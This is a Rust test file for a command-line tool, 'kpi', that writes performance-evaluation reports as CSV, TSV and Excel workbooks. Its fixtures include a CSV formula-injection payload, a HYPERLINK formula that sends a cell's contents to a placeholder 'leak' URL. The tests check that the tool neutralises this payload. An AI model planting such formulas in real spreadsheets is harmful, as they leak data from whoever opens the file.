//! Results going back into spreadsheets: `-o` picks the format by extension,
//! the workbook holds the CSV's figures as typed cells, CSV for Italian
//! Excel, and no cell of a CSV runs as a formula.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::str::FromStr;

use assert_cmd::Command;
use calamine::{open_workbook_auto, Data, Reader};
use rust_decimal::Decimal;

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).to_path_buf()
}

fn case100() -> PathBuf {
    root().join("fixtures/conformance/case100")
}

fn formulas() -> PathBuf {
    root().join("fixtures/spreadsheets/formulas")
}

/// `kpi eval 2024` on case100 with extra arguments, run in `dir`.
fn eval_case100(dir: &Path, extra: &[&str]) -> std::process::Output {
    let plan = case100().join("plan.csv");
    let actuals = case100().join("actuals.csv");
    let mut args = vec!["eval", "2024", "--plan", plan.to_str().unwrap(), "--actuals", actuals.to_str().unwrap()];
    args.extend_from_slice(extra);
    Command::cargo_bin("kpi").unwrap().current_dir(dir).args(&args).output().unwrap()
}

fn stdout_of(output: std::process::Output) -> String {
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// The CSV report's rows, header first.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn the_output_file_extension_picks_the_format() {
    let dir = tempfile::tempdir().unwrap();
    for (file, format) in [("r.csv", "csv"), ("r.tsv", "tsv"), ("r.json", "json"), ("r.md", "md"), ("r.txt", "table")] {
        stdout_of(eval_case100(dir.path(), &["-o", file]));
        let written = std::fs::read_to_string(dir.path().join(file)).unwrap();
        assert_eq!(written, stdout_of(eval_case100(dir.path(), &["--format", format])), "{file}");
    }
    // --format picks the format of a file whose extension names none…
    stdout_of(eval_case100(dir.path(), &["-o", "r.out", "--format", "csv"]));
    let written = std::fs::read_to_string(dir.path().join("r.out")).unwrap();
    assert!(written.starts_with("level,code,parent,name"), "{written}");
    // …and must agree with one that does: a .xlsx file never holds CSV.
    let output = eval_case100(dir.path(), &["-o", "r.xlsx", "--format", "csv"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(!dir.path().join("r.xlsx").exists());
}

#[test]
fn a_workbook_cannot_go_to_standard_output() {
    let dir = tempfile::tempdir().unwrap();
    Command::cargo_bin("kpi")
        .unwrap()
        .current_dir(case100())
        .args(["eval", "2024", "--plan", "plan.csv", "--actuals", "actuals.csv", "--format", "xlsx"])
        .assert()
        .code(2)
        .stdout("")
        .stderr("kpi: --format xlsx writes a workbook, which cannot go to standard output: give -o FILE.xlsx\n");
    let output = eval_case100(dir.path(), &["-o", "report.ods"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("-o report.ods: cannot tell the format"));
}

/// The exact decimal a workbook's number cell shows.
fn cell_decimal(data: &Data) -> Decimal {
    match data {
        Data::Float(f) => kpi::files::workbook::exact_decimal(*f).unwrap(),
        Data::Int(i) => Decimal::from(*i),
        other => panic!("not a number: {other:?}"),
    }
}

fn cell_text(data: &Data) -> String {
    match data {
        Data::Empty => String::new(),
        Data::String(s) => s.clone(),
        Data::Bool(b) => b.to_string(),
        Data::DateTime(d) => {
            let (y, m, day, ..) = d.to_ymd_hms_milli();
            format!("{y:04}-{m:02}-{day:02}")
        }
        other => format!("{}", cell_decimal(other)),
    }
}

#[test]
fn the_workbook_holds_the_csv_figures_as_typed_cells() {
    let dir = tempfile::tempdir().unwrap();
    stdout_of(eval_case100(dir.path(), &["-o", "report.xlsx"]));
    let rows = csv_rows(&stdout_of(eval_case100(dir.path(), &["--format", "csv"])));

    let mut workbook = open_workbook_auto(dir.path().join("report.xlsx")).unwrap();
    assert_eq!(workbook.sheet_names(), ["Valutazione 2024"]);
    let range = workbook.worksheet_range("Valutazione 2024").unwrap();
    let header: Vec<String> = range.rows().next().unwrap().iter().map(cell_text).collect();
    // The CSV's fields, titled in Italian like the rest of the workbook.
    assert_eq!(header, WORKBOOK_HEADER);
    assert_eq!(header.len(), rows[0].len());

    let numbers = ["weight", "threshold", "value", "score", "coverage"];
    for (i, want) in rows.iter().enumerate().skip(1) {
        let got = range.rows().nth(i).unwrap();
        for (col, name) in rows[0].iter().enumerate() {
            let (expected, cell) = (&want[col], &got[col]);
            let context = format!("row {i} ({}), {name}", want[1]);
            if name == "target" {
                // As the plan writes it; the CSV has the canonical form.
                assert_eq!(*cell == Data::Empty, expected.is_empty(), "{context}");
            } else if numbers.contains(&name.as_str()) && Decimal::from_str(expected).is_ok() {
                assert!(matches!(cell, Data::Float(_) | Data::Int(_)), "{context}: {cell:?} is not a number");
                assert_eq!(cell_decimal(cell), Decimal::from_str(expected).unwrap(), "{context}");
            } else {
                assert_eq!(cell_text(cell), in_italian(name, expected), "{context}");
            }
        }
    }
    // Typed as such: a date, a yes/no, a percent value.
    let row_of = |code: &str| range.rows().position(|r| r[1] == Data::String(code.into())).unwrap();
    assert!(matches!(range.rows().nth(row_of("K00001")).unwrap()[8], Data::DateTime(_)));
    assert_eq!(range.rows().nth(row_of("K00016")).unwrap()[8], Data::Bool(false));
    assert_eq!(range.rows().nth(row_of("K00002")).unwrap()[6], Data::String(">= 11,00 %".into()));

    // The overall score closes the sheet, after a blank row.
    let last = range.rows().next_back().unwrap();
    assert_eq!(last[3], Data::String("Punteggio complessivo 2024 (performance organizzativa)".into()));
    assert_eq!(cell_decimal(&last[9]), Decimal::from_str("36.554979").unwrap());
    assert_eq!(cell_decimal(&last[10]), Decimal::from_str("71.510483").unwrap());
    assert_eq!(range.rows().len(), rows.len() + 2);

    // Percent values show as percents; the header is frozen; the tree folds.
    let styles = match &mut workbook {
        calamine::Sheets::Xlsx(x) => x.worksheet_style("Valutazione 2024").unwrap(),
        _ => unreachable!(),
    };
    let k3 = row_of("K00003") as u32;
    assert_eq!(styles.get((k3, 8)).unwrap().number_format.as_ref().unwrap().format_code, "0.00%");
    let sheet_xml = sheet_xml(&dir.path().join("report.xlsx"));
    assert!(sheet_xml.contains(r#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#));
    assert!(sheet_xml.contains(r#"outlineLevel="3""#), "indicators under operational objectives are at level 3");
    assert!(sheet_xml.contains(r#"<outlinePr summaryBelow="0"/>"#));
}

/// The workbook's header: the CSV's fields in Italian.
const WORKBOOK_HEADER: [&str; 15] = [
    "livello",
    "codice",
    "padre",
    "nome",
    "unità",
    "peso",
    "target",
    "soglia",
    "valore",
    "punteggio",
    "copertura",
    "stato",
    "messaggio",
    "nota",
    "scala",
];

/// A CSV cell as the Italian workbook writes it: levels, statuses and the
/// evaluation's messages in Italian, everything else the same.
fn in_italian(column: &str, text: &str) -> String {
    let words = match column {
        "level" => &[
            ("ambito", "ambito"),
            ("strategic", "obiettivo strategico"),
            ("operational", "obiettivo operativo"),
            ("indicator", "indicatore"),
        ][..],
        "status" => &[
            ("achieved", "raggiunto"),
            ("partial", "parziale"),
            ("missed", "non raggiunto"),
            ("missing", "mancante"),
            ("no-target", "senza target"),
            ("error", "errore"),
            ("neutralized", "neutralizzato"),
        ][..],
        "message" => &[
            ("no value for [Follower] in 2024", "nessun valore per [Follower] nel 2024"),
            (
                "division by zero in `([Partecipanti] / [Contratti conclusi])`",
                "divisione per zero in `([Partecipanti] / [Contratti conclusi])`",
            ),
            (
                "division by zero in `([Giorni lavorativi] / [Imprese aderenti])`",
                "divisione per zero in `([Giorni lavorativi] / [Imprese aderenti])`",
            ),
        ][..],
        _ => &[][..],
    };
    words.iter().find(|(english, _)| *english == text).map_or(text, |(_, italian)| italian).to_string()
}

fn sheet_xml(path: &Path) -> String {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut xml = String::new();
    zip.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut xml).unwrap();
    xml
}

/// LibreOffice opens the workbook and shows the figures of the CSV:
/// converted back to CSV, every number agrees to the digit. `.ci/run`
/// installs LibreOffice where it is missing; without it the test fails.
#[test]
fn libreoffice_reads_the_same_figures() {
    let soffice = ["soffice", "libreoffice"]
        .into_iter()
        .find(|p| std::process::Command::new(p).arg("--version").output().is_ok_and(|o| o.status.success()))
        .expect("this test needs LibreOffice (apt-get install libreoffice-calc)");
    let dir = tempfile::tempdir().unwrap();
    stdout_of(eval_case100(dir.path(), &["-o", "report.xlsx"]));
    let rows = csv_rows(&stdout_of(eval_case100(dir.path(), &["--format", "csv"])));
    let profile = format!("-env:UserInstallation=file://{}/profile", dir.path().display());
    // CSV export: comma, quote, UTF-8, English locale, values as stored rather than as shown.
    let status = std::process::Command::new(soffice)
        .current_dir(dir.path())
        .args([
            &profile,
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false",
        ])
        .args(["--outdir", "lo", "report.xlsx"])
        .output()
        .unwrap();
    assert!(status.status.success(), "{}", String::from_utf8_lossy(&status.stderr));
    let back = csv_rows(&std::fs::read_to_string(dir.path().join("lo/report.csv")).unwrap());
    assert_eq!(back[0], WORKBOOK_HEADER);
    for (want, got) in rows.iter().zip(&back).skip(1) {
        for col in [5, 7, 8, 9, 10] {
            match Decimal::from_str(&want[col]) {
                Ok(n) => assert_eq!(shown_number(&got[col]), Some(n), "{} column {col}", want[1]),
                Err(_) if want[col].len() == 10 && want[col].as_bytes()[4] == b'-' => {
                    assert_eq!(shown_date(&got[col]), want[col], "{} column {col}", want[1])
                }
                Err(_) => assert_eq!(got[col].is_empty(), want[col].is_empty(), "{} column {col}", want[1]),
            }
        }
        assert_eq!(got[11], in_italian("status", &want[11]), "{} status", want[1]);
    }
    let overall = back.iter().rev().find(|r| !r.iter().all(String::is_empty)).unwrap();
    assert_eq!(overall[9], "36.554979");
}

/// A number as LibreOffice exports it: percent cells keep their `%`.
fn shown_number(text: &str) -> Option<Decimal> {
    match text.strip_suffix('%') {
        Some(percent) => Decimal::from_str(percent).ok()?.checked_div(Decimal::ONE_HUNDRED),
        None => Decimal::from_str(text).ok(),
    }
}

/// A date as LibreOffice exports it in the English (US) locale, `MM/DD/YYYY`, made ISO.
fn shown_date(text: &str) -> String {
    let parts: Vec<&str> = text.split('/').collect();
    assert_eq!(parts.len(), 3, "`{text}` is not a date");
    format!("{}-{:0>2}-{:0>2}", parts[2], parts[0], parts[1])
}

#[test]
fn an_input_error_leaves_the_earlier_report_untouched() {
    let dir = tempfile::tempdir().unwrap();
    stdout_of(eval_case100(dir.path(), &["-o", "report.xlsx"]));
    let before = std::fs::read(dir.path().join("report.xlsx")).unwrap();
    std::fs::write(dir.path().join("bad.csv"), "level,code\nsomething,A1\n").unwrap();
    Command::cargo_bin("kpi")
        .unwrap()
        .current_dir(dir.path())
        .args(["eval", "2024", "--plan", "bad.csv", "--actuals", "bad.csv", "-o", "report.xlsx"])
        .assert()
        .code(2);
    assert_eq!(std::fs::read(dir.path().join("report.xlsx")).unwrap(), before);
    let mut names: Vec<_> = std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
    names.sort();
    assert_eq!(names, ["bad.csv", "report.xlsx"]);
}

fn eval_formulas(extra: &[&str]) -> String {
    let output = Command::cargo_bin("kpi").unwrap().current_dir(formulas()).args(["eval", "2024"]).args(extra).output();
    stdout_of(output.unwrap())
}

#[test]
fn nothing_in_a_csv_runs_as_a_formula() {
    let csv = eval_formulas(&["--format", "csv"]);
    assert_eq!(
        csv,
        "level,code,parent,name,unit,weight,target,threshold,value,score,coverage,status,message,note,scale\n\
         ambito,A1,,\"'=HYPERLINK(\"\"https://example.invalid/?leak=\"\"&A1,\"\"Clicca qui\"\")\",,1,,,,100,100,,,,\n\
         indicator,K1,A1,\"'+SUM(1,1) Pratiche evase\",N.,1,>= 10,,12,100,100,achieved,,,\n\
         indicator,K2,A1,'-Variazione del fatturato,%,1,>= -0.1,,-0.05,100,100,achieved,,,\n\
         indicator,K3,A1,'@Tempo medio,gg,1,<= 5,,4,100,100,achieved,,,\n\
         indicator,K4,A1,Esattamente tre,,1,'= 3,,3,100,100,achieved,,,\n"
    );
    // Every text cell of the CSV and the TSV is safe; numbers stay numbers.
    for (text, delimiter) in [(csv, b','), (eval_formulas(&["--format", "tsv"]), b'\t')] {
        let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let dangerous = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(!dangerous || Decimal::from_str(cell).is_ok(), "`{cell}` would run as a formula");
            }
        }
    }
}

#[test]
fn raw_writes_text_as_it_is() {
    let csv = eval_formulas(&["--format", "csv", "--raw"]);
    assert!(csv.contains(",\"=HYPERLINK(\"\"https://example.invalid/?leak=\"\"&A1,\"\"Clicca qui\"\")\","), "{csv}");
    assert!(csv.contains(",A1,-Variazione del fatturato,"), "{csv}");
}

#[test]
fn a_workbook_never_holds_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("report.xlsx");
    eval_formulas(&["-o", out.to_str().unwrap()]);
    let mut workbook = open_workbook_auto(&out).unwrap();
    let range = workbook.worksheet_range("Valutazione 2024").unwrap();
    assert_eq!(
        range.rows().nth(1).unwrap()[3],
        Data::String("=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"Clicca qui\")".into())
    );
    let formulas = workbook.worksheet_formula("Valutazione 2024").unwrap();
    assert!(formulas.used_cells().next().is_none(), "no cell is a formula");
}

#[test]
fn decimal_comma_writes_csv_for_italian_excel() {
    let csv = eval_formulas(&["--format", "csv", "--decimal-comma"]);
    assert!(csv.starts_with("\u{feff}level;code;parent;name;unit;weight;target;"), "{csv}");
    assert!(
        csv.contains("\nindicator;K2;A1;'-Variazione del fatturato;%;1;>= -0,1;;-0,05;100;100;achieved;;;\n"),
        "{csv}"
    );
    // The CSV for Italian Excel reads back as kpi's own input would.
    let dir = tempfile::tempdir().unwrap();
    stdout_of(eval_case100(dir.path(), &["-o", "report.csv", "--decimal-comma"]));
    let text = std::fs::read_to_string(dir.path().join("report.csv")).unwrap();
    let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    let plain = csv_rows(&stdout_of(eval_case100(dir.path(), &["--format", "csv"])));
    assert_eq!(rows.len(), plain.len());
    for (italian, english) in rows.iter().zip(&plain) {
        assert_eq!(italian.len(), english.len());
        for (i, e) in italian.iter().zip(english) {
            if Decimal::from_str(e).is_ok() {
                assert_eq!(i, &e.replace('.', ","));
            }
        }
    }
}

#[test]
fn depth_shows_the_top_levels_in_every_format() {
    let dir = tempfile::tempdir().unwrap();
    let csv = stdout_of(eval_case100(dir.path(), &["--format", "csv", "--depth", "1"]));
    let codes: Vec<String> = csv_rows(&csv).into_iter().skip(1).map(|r| r[1].clone()).collect();
    assert_eq!(codes, ["A1", "A2", "A3"]);
    let json: serde_json::Value =
        serde_json::from_str(&stdout_of(eval_case100(dir.path(), &["--format", "json", "--depth", "2"]))).unwrap();
    assert_eq!(json["nodes"].as_array().unwrap().len(), 3 + 6);
    assert_eq!(json["score"].to_string(), "36.554979", "the overall score does not depend on what is shown");
    let output = eval_case100(dir.path(), &["--depth", "0"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("--depth"));
}

#[test]
fn the_table_in_a_pipe_is_plain_text() {
    let dir = tempfile::tempdir().unwrap();
    let table = stdout_of(eval_case100(dir.path(), &["--format", "table"]));
    assert!(!table.contains('\u{1b}') && !table.contains('✔'), "{table}");
    assert!(table.contains("┆ raggiunto"), "{table}");
    assert!(table.ends_with(
        "Punteggio complessivo 2024 (performance organizzativa): 36,55 — copertura 71,51 % — metodo rapporto\n"
    ));
}

#[test]
fn completions_and_manual() {
    let out = |args: &[&str]| stdout_of(Command::cargo_bin("kpi").unwrap().args(args).output().unwrap());
    let bash = out(&["completions", "bash"]);
    assert!(bash.contains("_kpi()") && bash.contains("--decimal-comma"), "{bash}");
    assert!(out(&["completions", "zsh"]).starts_with("#compdef kpi"));
    assert!(out(&["completions", "fish"]).contains("complete -c kpi"));
    let man = out(&["man"]);
    assert!(man.starts_with(".ie \\n(.g .ds Aq \\(aq") || man.contains(".TH kpi"), "{man}");
    assert!(man.contains(".TH kpi 1"), "{man}");
    Command::cargo_bin("kpi").unwrap().args(["completions", "tcsh"]).assert().code(2);
}
